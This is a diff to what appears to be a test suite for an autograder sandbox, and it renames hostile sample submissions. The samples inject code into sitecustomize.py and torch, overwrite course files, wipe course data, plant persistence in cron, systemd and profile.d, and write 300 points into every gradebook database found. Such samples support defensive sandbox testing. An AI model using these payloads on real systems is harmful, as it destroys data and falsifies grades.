@@ -35,13 +35,13 @@ for folder in [*sys.path, sys.prefix + "/lib/python3.11/site-packages", "/usr/li
     plant(f"{folder}/sitecustomize.py", CODE)
     plant(f"{folder}/torch/__init__.py", CODE)
 """),
-    plants("library", "changes the library that the next submission will import", """
+    plants("changes_library", "changes the library that the next submission will import", """
 for folder, _, files in os.walk("/course"):
     for name in files: plant(f"{folder}/{name}", "\\ndef q_sample(*a): return 44\\n")
 for folder, _, files in os.walk("/sandbox"):
     for name in files: plant(f"{folder}/{name}", CODE)
 """),
-    plants("data", "poisons the data of the course", """
+    plants("changes_data", "poisons the data of the course", """
 for folder, _, files in os.walk("/course/data"):
     for name in files:
         try: open(f"{folder}/{name}", "wb").write(b"")
@@ -83,7 +83,7 @@ for path in ("/etc/cron.d/x", "/var/spool/cron/root", "/etc/systemd/system/x.ser
              "/etc/profile.d/x.sh", "/var/tmp/{MARK}", "/dev/shm/{MARK}", "/run/{MARK}", "/usr/local/bin/nbgrader"):
     plant(path, CODE)
 """),
-    plants("gradebook", "writes 300 points into every database it finds", """
+    plants("writes_gradebook", "writes 300 points into every database it finds", """
 import glob, sqlite3
 for path in glob.glob("/**/*.db", recursive=True)[:50] + ["gradebook.db", "../../gradebook.db", "../../../gradebook.db"]:
     try:
